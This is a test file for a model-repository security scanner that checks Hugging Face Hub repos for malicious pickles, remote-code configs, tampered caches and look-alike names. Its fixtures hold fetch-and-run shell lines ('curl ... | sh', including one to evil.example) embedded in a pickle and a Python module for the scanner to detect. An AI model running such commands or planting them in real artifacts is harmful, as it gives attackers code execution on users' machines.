import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { isModelgateError } from '../../src/core/errors.js';
import { scanHub, type HubScanOptions } from '../../src/app/index.js';
import { buildSafetensors } from '../../src/formats/safetensors/builder.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { gitBlobId, sha256 } from '../helpers/fixture-hub.js';
import type { ScanResult } from '../../src/core/report-types.js';
import { HubProcess } from '../helpers/hub-process.js';
import { torchStateDict } from '../detectors/pickle/pickles.js';
import { osSystemPickle, plainPickle } from '../helpers/pickles.js';
import { expectSameReport } from '../helpers/same-report.js';

const torchZip = (pickle: Buffer): Buffer =>
  buildZip([
    { name: 'archive/data.pkl', data: pickle },
    { name: 'archive/version', data: Buffer.from('3\n') },
    { name: 'archive/data/0', data: Buffer.alloc(4096, 1) },
  ]);

let hub: HubProcess;
let cache: string;
const env = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({ HF_ENDPOINT: hub.url, HF_HOME: cache, ...extra });
const opts = (extra: Partial<HubScanOptions> = {}): HubScanOptions => ({ env: env(), transport: { backoffMs: 10 }, ...extra });

async function codeOf(p: Promise<unknown>): Promise<string | undefined> {
  try {
    await p;
  } catch (e) {
    return isModelgateError(e) ? e.code : String(e);
  }
  return undefined;
}

const big = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [1024, 1024] }], dataBytes: 4 << 20 });
// A torch.save zip whose pickle references storages 0 and 1, as real checkpoints do.
const bigZip = buildZip([
  { name: 'archive/data.pkl', data: torchStateDict().bytes() },
  { name: 'archive/version', data: Buffer.from('3\n') },
  { name: 'archive/data/0', data: Buffer.alloc(3 << 20, 7) },
  { name: 'archive/data/1', data: Buffer.alloc(3 << 20, 8) },
]);

const evil = torchZip(osSystemPickle('curl http://x | sh'));
const safe = buildSafetensors({ tensors: [{ name: 'w', dtype: 'F32', shape: [64, 64] }] });
let goodSha = '';
let smallSha = '';
const remoteModule = Buffer.from('import os\nos.system("curl http://evil.example/x | sh")\nclass XModel: pass\n');
const smallPickle = osSystemPickle('curl http://x | sh');
const tokenizer = Buffer.from('{"version": "1.0", "model": {"type": "BPE"}}');

beforeAll(async () => {
  hub = await HubProcess.start();
  cache = mkdtempSync(join(tmpdir(), 'mg-hub-'));
  goodSha = await hub.addSimpleRepo('acme/good', [
    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
    { path: 'model.safetensors', content: safe },
    { path: 'README.md', content: Buffer.from('# good\n') },
  ]);
  await hub.addSimpleRepo('acme/evil', [
    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
    { path: 'pytorch_model.bin', content: evil },
    { path: 'sub/plain.pkl', content: plainPickle() },
  ]);
  await hub.addSimpleRepo('acme/big', [
    { path: 'model.safetensors', content: big },
    { path: 'pytorch_model.bin', content: bigZip },
  ]);
  await hub.addSimpleRepo('acme/gated', [{ path: 'config.json', content: Buffer.from('{}') }], { gated: true });
  await hub.addSimpleRepo('acme/private', [{ path: 'config.json', content: Buffer.from('{}') }], { private: true });
  await hub.addSimpleRepo(
    'acme/many',
    Array.from({ length: 25 }, (_, i) => ({ path: `d${i % 3}/f${i}.json`, content: Buffer.from(`{"i": ${i}}`) })),
  );
  await hub.addSimpleRepo('acme/remote', [
    { path: 'config.json', content: Buffer.from('{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}') },
    { path: 'modeling_x.py', content: remoteModule },
  ]);
  // Small files the Hub keeps in git (no LFS pointer), a malicious pickle among them.
  smallSha = await hub.addSimpleRepo('acme/small', [
    { path: 'config.json', content: Buffer.from('{"model_type": "bert"}') },
    { path: 'README.md', content: Buffer.from('# small\n') },
    { path: 'tokenizer/tokenizer.json', content: tokenizer },
    { path: 'evil.pkl', content: smallPickle, lfs: false },
    { path: 'model.safetensors', content: safe },
  ]);
  await hub.rename('oldorg/evil', 'acme/evil');
  await hub.addToken('good-token');
});
beforeEach(async () => {
  await hub.setFaults({});
  await hub.clearLog();
});
afterAll(async () => {
  await hub.close();
  rmSync(cache, { recursive: true, force: true });
});

describe('scan hf:', () => {
  it('resolves the revision, lists files with LFS hashes and scans each through the engine', async () => {
    const r = await scanHub('hf:acme/good', opts());
    expect(r.source).toEqual({ repo: 'acme/good', revision: 'main', commit: goodSha, hubSecurityStatus: { scansDone: true, filesWithIssues: [] } });
    expect(r.files.map((f) => [f.path, f.format, f.verdict])).toEqual([
      ['README.md', expect.any(String), 'clean'],
      ['config.json', 'hf-config', 'clean'],
      ['model.safetensors', 'safetensors', 'clean'],
    ]);
    const st = r.files.find((f) => f.path === 'model.safetensors')!;
    expect(st.sha256).toBe(sha256(safe));
    expect(st.sha256Source).toBe('hub-lfs');
    expect(r.files.find((f) => f.path === 'config.json')!.sha256Source).toBe('computed');
    expect(r.findings.map((f) => f.ruleId).sort()).toEqual(['repo/hub-security-status', 'repo/unpinned-revision']);
  });

  it('finds a malicious pickle inside a torch zip on the Hub', async () => {
    const r = await scanHub('hf:acme/evil', opts());
    const bin = r.files.find((f) => f.path === 'pytorch_model.bin')!;
    expect(bin.format).toBe('pytorch-zip');
    expect(bin.verdict).toBe('malicious');
    expect(bin.findings.some((f) => f.ruleId === 'pickle/dangerous-callable' && f.target === 'pytorch_model.bin!/archive/data.pkl')).toBe(true);
  });

  it('pinned to a commit: no unpinned-revision finding', async () => {
    const r = await scanHub(`hf:acme/good@${goodSha}`, opts());
    expect(r.source?.commit).toBe(goodSha);
    expect(r.findings.map((f) => f.ruleId)).not.toContain('repo/unpinned-revision');
  });
});

describe('fetching only what each format needs', () => {
  it('reads a safetensors header and a torch zip directory by range, not the whole files', async () => {
    const r = await scanHub('hf:acme/big', opts());
    expect(r.files.map((f) => [f.verdict, f.findings.filter((x) => x.severity !== 'info').map((x) => x.message)])).toEqual([
      ['clean', []],
      ['clean', []],
    ]);
    const { log, cdnBytes } = await hub.state();
    const cdn = log.filter((l) => l.server === 'cdn');
    expect(cdn.length).toBeGreaterThan(0);
    expect(cdn.every((l) => l.range !== undefined)).toBe(true);
    expect(cdnBytes).toBeLessThan((big.length + bigZip.length) / 10);
    expect(r.fetched.bytes).toBe(cdnBytes);
  });

  it('--full downloads every file, verifies it and computes the SHA-256', async () => {
    const r = await scanHub('hf:acme/big', opts({ full: true }));
    expect(r.files.every((f) => f.sha256Source === 'computed')).toBe(true);
    expect(r.files.find((f) => f.path === 'model.safetensors')!.sha256).toBe(sha256(big));
    expect(r.files.flatMap((f) => f.findings).filter((f) => f.ruleId === 'repo/hash-mismatch')).toEqual([]);
  });

  it('--full reports bytes that differ from the LFS SHA-256 as repo/hash-mismatch', async () => {
    await hub.setFaults({ corrupt: new Set([sha256(safe)]) });
    const r = await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: mkdtempSync(join(tmpdir(), 'mg-hub-')) }) }));
    const st = r.files.find((f) => f.path === 'model.safetensors')!;
    expect(st.verdict).toBe('malicious');
    expect(st.findings.find((f) => f.ruleId === 'repo/hash-mismatch')?.message).toContain(sha256(safe));
  });

  it('resumes a download whose connection broke, with a Range request from where it stopped', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await hub.setFaults({ dropAfter: new Map([[sha256(bigZip), 1 << 20]]) });
    const r = await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: home }) }));
    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.sha256).toBe(sha256(bigZip));
    const ranges = (await hub.state()).log.filter((l) => l.server === 'cdn' && l.path.includes(sha256(bigZip))).map((l) => l.range);
    expect(ranges[0]).toBeUndefined();
    expect(ranges[1]).toMatch(/^bytes=\d+-$/);
    expect(Number(/=(\d+)-/.exec(ranges[1]!)![1])).toBeGreaterThan(0);
  });

  it('reports download progress', async () => {
    const seen: number[] = [];
    await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: mkdtempSync(join(tmpdir(), 'mg-hub-')) }), onDownload: (_p, n) => seen.push(n) }));
    expect(seen.length).toBeGreaterThan(1);
    expect(seen.at(-1)).toBe(bigZip.length);
  });
});

describe('the repo as a whole', () => {
  it('reports a rename redirect and scans the new name', async () => {
    const r = await scanHub('hf:oldorg/evil', opts());
    expect(r.source?.redirectedTo).toBe('acme/evil');
    const redirect = r.findings.find((f) => f.ruleId === 'repo/redirect')!;
    expect(redirect.severity).toBe('medium');
    expect(redirect.message).toContain('oldorg/evil to acme/evil');
    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.verdict).toBe('malicious');
  });

  it('reports a look-alike name', async () => {
    await hub.addSimpleRepo('meta-Ilama/Llama-2-7b-chat-hf', [{ path: 'config.json', content: Buffer.from('{}') }]);
    const r = await scanHub('hf:meta-Ilama/Llama-2-7b-chat-hf', opts());
    const squat = r.findings.find((f) => f.ruleId === 'repo/typosquat')!;
    expect(squat.severity).toBe('high');
    expect(squat.message).toContain('meta-llama');
  });

  it('lists big repos page by page (Link: rel="next")', async () => {
    await hub.setFaults({ pageSize: 4 });
    const r = await scanHub('hf:acme/many', opts());
    expect(r.files).toHaveLength(25);
    expect((await hub.state()).log.filter((l) => l.path.includes('/tree/')).length).toBeGreaterThan(6);
  });
});

describe('Hub errors', () => {
  it('gated repo without a token: HUB_ACCESS that says so; with a token it is read, and the token never reaches the storage server', async () => {
    expect(await codeOf(scanHub('hf:acme/gated', opts()))).toBe('HUB_ACCESS');
    await expect(scanHub('hf:acme/gated', opts())).rejects.toThrow(/gated.*HF_TOKEN/);
    await hub.clearLog();
    const r = await scanHub('hf:acme/gated', opts({ env: env({ HF_TOKEN: 'good-token' }) }));
    expect(r.files).toHaveLength(1);
    await scanHub('hf:acme/good', opts({ env: env({ HF_TOKEN: 'good-token' }) }));
    const { log } = await hub.state();
    expect(log.filter((l) => l.server === 'hub').every((l) => l.authorization === 'Bearer good-token')).toBe(true);
    expect(log.filter((l) => l.server === 'cdn').some((l) => l.authorization !== undefined)).toBe(false);
  });

  it('private or missing repo: 401 without a token, 404 with one', async () => {
    expect(await codeOf(scanHub('hf:acme/private', opts()))).toBe('HUB_ACCESS');
    expect(await codeOf(scanHub('hf:acme/private', opts({ env: env({ HF_TOKEN: 'wrong-token' }) })))).toBe('HUB_ACCESS');
    expect((await scanHub('hf:acme/private', opts({ env: env({ HF_TOKEN: 'good-token' }) }))).files).toHaveLength(1);
    expect(await codeOf(scanHub('hf:acme/nothing', opts({ env: env({ HF_TOKEN: 'good-token' }) })))).toBe('HUB_NOT_FOUND');
    expect(await codeOf(scanHub('hf:acme/good@no-such-branch', opts()))).toBe('HUB_NOT_FOUND');
  });

  it('backs off on 429 as the RateLimit header says, then succeeds', async () => {
    await hub.setFaults({ rateLimit: 2, rateLimitSeconds: 1 });
    const started = Date.now();
    const r = await scanHub('hf:acme/good', opts());
    expect(r.files).toHaveLength(3);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1900);
  });

  it('gives up with HUB_RATE_LIMIT when the wait is longer than it accepts', async () => {
    await hub.setFaults({ rateLimit: 1, rateLimitSeconds: 600 });
    const p = scanHub('hf:acme/good', opts({ transport: { backoffMs: 10, maxWaitMs: 5000 } }));
    await expect(p).rejects.toThrow(/retry after 600 s/);
    await hub.setFaults({ rateLimit: 1, rateLimitSeconds: 600 });
    expect(await codeOf(scanHub('hf:acme/good', opts({ transport: { backoffMs: 10, maxWaitMs: 5000 } })))).toBe('HUB_RATE_LIMIT');
  });

  it('HF_HUB_OFFLINE reads the cache only: what was downloaded scans, the rest is an error, never clean', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    expect(await codeOf(scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) })))).toBe('OFFLINE');
    await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home }) }));
    await hub.clearLog();
    const r = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    expect((await hub.state()).log).toEqual([]);
    expect(r.source?.commit).toBe(goodSha);
    // The small git files were cached by the online scan; the LFS weights were only range-read.
    expect(r.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('error');
    expect(r.files.filter((f) => f.path !== 'model.safetensors').map((f) => f.verdict)).toEqual(['clean', 'clean']);
    await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
    const again = await scanHub('hf:acme/good', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    expect(again.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('clean');
  });
});

describe('the download cache', () => {
  it('hashes a cached blob again before using it: wrong bytes are fetched again, or offline reported', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
    const blobs = join(home, 'modelgate', 'models--acme--good', 'blobs');
    const blob = join(
      blobs,
      readdirSync(blobs).find((n) => n === sha256(safe))!,
    );
    const tampered = Buffer.from(safe);
    tampered[tampered.length - 1]! ^= 1;
    writeFileSync(blob, tampered);
    const offline = await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    const st = offline.files.find((f) => f.path === 'model.safetensors')!;
    expect(st.findings.find((f) => f.ruleId === 'repo/hash-mismatch')?.message).toContain('cached copy');
    await hub.clearLog();
    const online = await scanHub('hf:acme/good', opts({ full: true, env: env({ HF_HOME: home }) }));
    expect(online.files.find((f) => f.path === 'model.safetensors')!.verdict).toBe('clean');
    expect((await hub.state()).log.some((l) => l.server === 'cdn' && l.path.includes(sha256(safe)))).toBe(true);
  });
});

describe('repo files that refer to each other', () => {
  it('a config whose auto_map names a module of the repo is graded by that module, fetched from the Hub', async () => {
    const r = await scanHub('hf:acme/remote', opts());
    const config = r.files.find((f) => f.path === 'config.json')!;
    const remote = config.findings.find((f) => f.ruleId === 'hfconfig/remote-code')!;
    expect(remote.severity).not.toBe('low');
    expect(remote.message).toContain('modeling_x');
    expect(r.files.find((f) => f.path === 'modeling_x.py')!.verdict).toBe('malicious');
  });
});

describe('resuming across runs', () => {
  it('a download left incomplete by an earlier run resumes from its length', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    const blobs = join(home, 'modelgate', 'models--acme--big', 'blobs');
    mkdirSync(blobs, { recursive: true });
    writeFileSync(join(blobs, `${sha256(bigZip)}.incomplete`), bigZip.subarray(0, 1 << 20));
    const r = await scanHub('hf:acme/big', opts({ full: true, env: env({ HF_HOME: home }) }));
    expect(r.files.find((f) => f.path === 'pytorch_model.bin')!.sha256).toBe(sha256(bigZip));
    const ranges = (await hub.state()).log.filter((l) => l.server === 'cdn' && l.path.includes(sha256(bigZip))).map((l) => l.range);
    expect(ranges).toEqual([`bytes=${1 << 20}-`]);
  });
});

describe('offline re-scans of git-tracked files', () => {
  const repoDir = (home: string) => join(home, 'modelgate', 'models--acme--small');
  it('caches each small git file as blobs/<git blob id>, linked from snapshots/<commit>/<path> as huggingface_hub does', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
    const dir = repoDir(home);
    for (const [path, bytes] of [
      ['config.json', Buffer.from('{"model_type": "bert"}')],
      ['README.md', Buffer.from('# small\n')],
      ['evil.pkl', smallPickle],
      ['tokenizer/tokenizer.json', tokenizer],
    ] as const) {
      const oid = gitBlobId(bytes);
      expect(readFileSync(join(dir, 'blobs', oid))).toEqual(bytes);
      const link = join(dir, 'snapshots', smallSha, path);
      expect(lstatSync(link).isSymbolicLink()).toBe(true);
      expect(readlinkSync(link)).toBe(`${'../'.repeat(path.split('/').length + 1)}blobs/${oid}`);
      expect(readFileSync(link)).toEqual(bytes);
    }
    expect(readFileSync(join(dir, 'refs', 'main'), 'utf8')).toBe(smallSha);
    // snapshots/ holds only commit folders (huggingface_hub's scan_cache_dir refuses a file there).
    expect(readdirSync(join(dir, 'snapshots'))).toEqual([smallSha]);
    // Range-read LFS files are not cached; no temporary file is left behind.
    expect(existsSync(join(dir, 'snapshots', smallSha, 'model.safetensors'))).toBe(false);
    expect(readdirSync(join(dir, 'blobs')).filter((n) => !/^[0-9a-f]{40}$/.test(n))).toEqual([]);
  });

  it('an online --full scan and an HF_HUB_OFFLINE=1 re-scan give the same report, with no request', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    const online = await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
    expect(online.files.find((f) => f.path === 'evil.pkl')!.verdict).toBe('malicious');
    expect(readlinkSync(join(repoDir(home), 'snapshots', smallSha, 'model.safetensors'))).toBe(`../../blobs/${sha256(safe)}`);
    await hub.clearLog();
    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    expect((await hub.state()).log).toEqual([]);
    expectSameReport(offline, online);
  });

  it('a blob already cached is linked from the snapshot of the commit being scanned', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
    const link = join(repoDir(home), 'snapshots', smallSha, 'model.safetensors');
    rmSync(link);
    await hub.clearLog();
    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
    expect((await hub.state()).log.some((l) => l.server === 'cdn')).toBe(false);
    expect(readlinkSync(link)).toBe(`../../blobs/${sha256(safe)}`);
  });

  it('still reads a listing an earlier version wrote as snapshots/<commit>.json', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
    const dir = repoDir(home);
    renameSync(join(dir, 'modelgate-listings', `${smallSha}.json`), join(dir, 'snapshots', `${smallSha}.json`));
    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    expect(offline.source?.commit).toBe(smallSha);
    expect(offline.files.every((f) => f.verdict !== 'error')).toBe(true);
  });

  it('a cached small file changed after caching is reported offline, never clean, and fetched again online', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    await scanHub('hf:acme/small', opts({ full: true, env: env({ HF_HOME: home }) }));
    const evilBlob = join(repoDir(home), 'blobs', gitBlobId(smallPickle));
    const configBlob = join(repoDir(home), 'blobs', gitBlobId(Buffer.from('{"model_type": "bert"}')));
    writeFileSync(evilBlob, plainPickle()); // the malicious pickle swapped for an inert one
    writeFileSync(configBlob, '{"model_type": "gpt2"}');
    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    for (const path of ['evil.pkl', 'config.json']) {
      const file = offline.files.find((f) => f.path === path)!;
      expect(file.verdict).not.toBe('clean');
      const mismatch = file.findings.find((f) => f.ruleId === 'repo/hash-mismatch')!;
      expect(mismatch.severity).toBe('high');
      expect(mismatch.message).toContain('git blob id');
      expect(mismatch.message).toContain('cached copy');
    }
    const online = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
    expect(online.files.find((f) => f.path === 'config.json')!.verdict).toBe('clean');
    expect(readFileSync(evilBlob)).toEqual(smallPickle);
  });

  it('offline, a config reads the module it names only when its cached blob still matches its id', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    const online = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home }) }));
    const remote = (r: ScanResult) => r.files.find((f) => f.path === 'config.json')!.findings.find((f) => f.ruleId === 'hfconfig/remote-code');
    const blob = join(home, 'modelgate', 'models--acme--remote', 'blobs', gitBlobId(remoteModule));
    writeFileSync(blob, 'class XModel: pass\n');
    const offline = await scanHub('hf:acme/remote', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    const config = offline.files.find((f) => f.path === 'config.json')!;
    expect(config.verdict).not.toBe('clean');
    expect(remote(offline)?.severity).not.toBe('low');
    expect(remote(online)?.severity).toBe('critical');
    // The changed module is not read: the config says its code cannot be read (not the inert stand-in).
    expect(remote(offline)?.message).toContain('does not match its hash');
    expect(offline.files.find((f) => f.path === 'modeling_x.py')!.findings.some((f) => f.ruleId === 'repo/hash-mismatch')).toBe(true);
  });

  it('a small file whose bytes do not match its blob id is a finding and is not cached', async () => {
    const home = mkdtempSync(join(tmpdir(), 'mg-hub-'));
    const oid = gitBlobId(tokenizer);
    await hub.setFaults({ corruptGit: new Set([oid]) });
    const r = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home }) }));
    const file = r.files.find((f) => f.path === 'tokenizer/tokenizer.json')!;
    expect(file.findings.find((f) => f.ruleId === 'repo/hash-mismatch')?.message).toContain(`git blob id`);
    expect(file.verdict).toBe('malicious');
    expect(existsSync(join(repoDir(home), 'blobs', oid))).toBe(false);
    expect(existsSync(join(repoDir(home), 'snapshots', smallSha, 'tokenizer', 'tokenizer.json'))).toBe(false);
    await hub.setFaults({});
    const offline = await scanHub('hf:acme/small', opts({ env: env({ HF_HOME: home, HF_HUB_OFFLINE: '1' }) }));
    expect(offline.files.find((f) => f.path === 'tokenizer/tokenizer.json')!.verdict).toBe('error');
  });
});
